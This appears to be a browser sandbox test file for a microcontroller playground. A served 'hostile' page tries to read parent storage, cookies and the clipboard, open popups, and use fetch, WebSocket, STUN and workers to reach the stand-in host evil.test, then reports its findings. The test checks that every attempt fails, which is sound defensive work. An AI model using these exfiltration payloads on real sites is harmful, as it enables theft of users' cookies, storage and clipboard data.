/** Pages of devices are strangers. A hostile one tries everything it can think of, and reports to its device what it got. */
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { createServer } from 'node:net';
import t, { type Test } from 'tap';
import { printed, runScript, stage } from '../helpers/chromium.ts';
import { missing } from '../helpers/programs.ts';

/** Every machine outside the browser is this one: whatever connects or sends a datagram is caught. */
async function trap(t: Test): Promise<{ readonly port: number; readonly opened: string[]; readonly caught: string[] }> {
  const opened: string[] = [];
  const caught: string[] = [];
  const server = createServer((socket) => {
    socket.once('data', (data) => caught.push(data.toString('latin1').split('\r\n', 1)[0] ?? ''));
    opened.push('connection');
    socket.on('error', () => {});
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address() as { port: number };
  const udp = createSocket('udp4', () => caught.push('datagram'));
  udp.bind(port, '127.0.0.1');
  await once(udp, 'listening');
  t.teardown(() => {
    server.close();
    udp.close();
  });
  return { port, opened, caught };
}

const HOSTILE = (port: number): string => `
<!doctype html><title>quiet</title><link rel="preconnect" href="http://evil.test:${port}"><link rel="dns-prefetch" href="http://evil.test">
<img src="http://evil.test:${port}/image"><script src="http://evil.test:${port}/script"></script>
<iframe src="http://evil.test:${port}/frame"></iframe><style>@import "http://evil.test:${port}/style"; body { background: url(http://evil.test:${port}/background) }</style>
<p><template shadowrootmode="open"><iframe srcdoc="<script>new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }] }).createOffer()</script>"></iframe></template></p>
<form id="f" action="http://evil.test:${port}/form" method="post"><input name="a" value="b"></form>
<script>
const got = {};
const attempt = (name, action) => { try { const value = action(); if (value !== undefined && value !== null && value !== false) got[name] = String(value).slice(0, 60); } catch {} };
const evil = 'http://evil.test:${port}/';
const stun = "const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))";
attempt('parent document', () => parent.document.title);
attempt('parent storage', () => parent.localStorage.length);
attempt('top location', () => top['location'].href);
attempt('secret in storage', () => localStorage.getItem('secret'));
attempt('cookie', () => document.cookie);
attempt('frame element', () => frameElement);
attempt('opener', () => opener);
attempt('top navigation', () => { top['location'] = evil; return undefined; });
attempt('popup', () => window.open(evil));
attempt('beacon', () => navigator.sendBeacon(evil) && undefined);
attempt('web socket', () => new WebSocket('ws://evil.test:${port}/').url);
attempt('event source', () => new EventSource(evil).url);
attempt('peer connection', () => { (0, eval)(stun); return 'made'; });
attempt('worker', () => { new Worker(URL.createObjectURL(new Blob(['fetch("' + evil + '")']))).onerror = () => {}; });
attempt('image', () => { document.createElement('img').setAttribute('src', evil); const i = new Image(); i.src = evil; document.body?.append(i); });
attempt('inner frame', () => { const f = document.createElement('iframe'); f.srcdoc = '<img src="' + evil + '"><script>fetch("' + evil + '");' + stun + '<\\/script>'; document.documentElement.append(f); return f.contentWindow.RTCPeerConnection; });
attempt('shadow', () => { const e = document.createElement('p'); document.documentElement.append(e); e.attachShadow({ mode: 'open' }).innerHTML = '<iframe srcdoc="<script>' + stun + '<\\/script>"></iframe>'; return 'made'; });
attempt('template', () => { document.documentElement.insertAdjacentHTML('beforeend', '<p><template shadowrootmode=open><iframe srcdoc="<script>' + stun + '<\\/script>"></iframe></template></p>'); });
attempt('prefetch', () => { const l = document.createElement('link'); l.rel = 'prefetch'; l.href = evil; document.head.append(l); });
attempt('script element', () => { const s = document.createElement('script'); s.src = evil; document.head.append(s); });
attempt('parent messages', () => { parent.postMessage({ is: 'start' }, '*'); parent.postMessage({ mcubox: 1, type: 'run', files: [] }, '*'); });
(async () => {
  for (const [name, action] of Object.entries({
    fetch: () => fetch(evil),
    database: () => new Promise((resolve, reject) => { const r = indexedDB.open('mcubox'); r.onsuccess = () => resolve(r.result.name); r.onerror = reject; }),
    caches: () => caches.keys(),
    'service worker': () => navigator.serviceWorker.register('worker.js'),
    clipboard: () => navigator.clipboard.readText(),
    'playground file': () => fetch('http://' + self['location'].ancestorOrigins[0].slice(7) + '/examples.json').then((r) => r.text()),
  })) try { got[name] = String(await action()).slice(0, 60); } catch {}
  const own = await fetch('/own');
  got.own = await own.text();
  await fetch('/report', { method: 'POST', body: JSON.stringify(got) });
  document.forms.f?.submit();
})();
</script>`;

const SCRIPT = (port: number): string => `
local PAGE = [==[${HOSTILE(port)}]==]
net.createServer(30):listen(80, function(conn)
  local rest
  conn:on("receive", function(c, request)
    local body = "yours"
    if request:find("^GET / ") then body = PAGE end
    if request:find("^POST /report") then print("REPORT " .. request:match("\\r\\n\\r\\n(.*)$") .. " THATSALL") end
    rest = "HTTP/1.0 200 OK\\r\\nContent-Type: text/html\\r\\n\\r\\n" .. body
    c:send(rest:sub(1, 1400)) rest = rest:sub(1401)
  end)
  conn:on("sent", function(c) if rest == "" then c:close() else c:send(rest:sub(1, 1400)) rest = rest:sub(1401) end end)
end)
print("hostile " .. "server")`;

/** Busy as soon as it is heard of. */
const BUSY = `<p>busy<script>fetch('/report', { method: 'POST', body: 'busy' }).then(() => { for (;;); })</script>`;

/** The same server with another page. */
const only = (html: string, port: number): string =>
  SCRIPT(port).replace(/local PAGE = [\s\S]*?\]==\]/, `local PAGE = [==[${html}]==]`);

t.test('a hostile page of a device', { skip: missing('chromium') }, async (t) => {
  const { port, opened, caught } = await trap(t);
  const { url, visitor } = await stage(t, { args: OUTSIDE });
  const page = await visitor.open(url);
  await page.getByRole('button', { name: '10×' }).click();
  await page.evaluate(`localStorage.setItem('secret', 'keep'); document.cookie = 'secret=keep'`);
  await runScript(page, SCRIPT(port));
  await printed(page, 'hostile server');
  await page.getByRole('button', { name: /^Open http/ }).click();
  await printed(page, 'THATSALL');
  const rows = await page.locator('.screen:not(.away) .xterm-rows > div').allTextContents();
  const report = /REPORT (\{.*\}) THATSALL/.exec(rows.map((row) => row.trimEnd()).join(''))?.[1] ?? '';
  await t.test('gets nothing of the playground', async (t) => {
    t.same(JSON.parse(report), { own: 'yours' }, 'all it reached is its own device');
    t.equal(await page.evaluate(`localStorage.getItem('secret')`), 'keep');
    t.equal(await page.evaluate('location.href'), url, 'the playground is where it was');
    t.equal(visitor.context.pages().length, 1, 'no window was opened');
  });

  await t.test('may keep its own frame busy for ever, not the playground', async (t) => {
    await runScript(page, only(BUSY, port));
    await printed(page, 'hostile server');
    await page.getByRole('button', { name: /^Open http/ }).click();
    await printed(page, 'REPORT busy');
    await page.waitForTimeout(200);
    await page.getByRole('tab', { name: 'Board', selected: false }).click();
    await page.getByRole('tab', { name: 'Board', selected: true }).waitFor();
    t.pass('a click is answered');
    await page.getByRole('tab', { name: 'Browser' }).click();
  });

  await t.test('gets nothing out', async (t) => {
    t.same([...opened, ...caught], [], 'nobody outside has heard of it until now');
  });

  await t.test('may send its own frame away, which leads nowhere and is said', async (t) => {
    await runScript(page, only(`<script>self['loca' + 'tion'] = 'http://evil.test:${port}/'</script>`, port));
    await printed(page, 'hostile server');
    await page.getByRole('button', { name: /^Open http/ }).click();
    await page.getByText('The page tried to leave the virtual network').waitFor();
    // Chromium opens a connection ahead of a navigation before it asks the policy; nothing is sent on it.
    t.same(caught, [], 'no request came through');
  });
});

const OUTSIDE = ['--host-resolver-rules=MAP evil.test 127.0.0.1', '--no-proxy-server'];
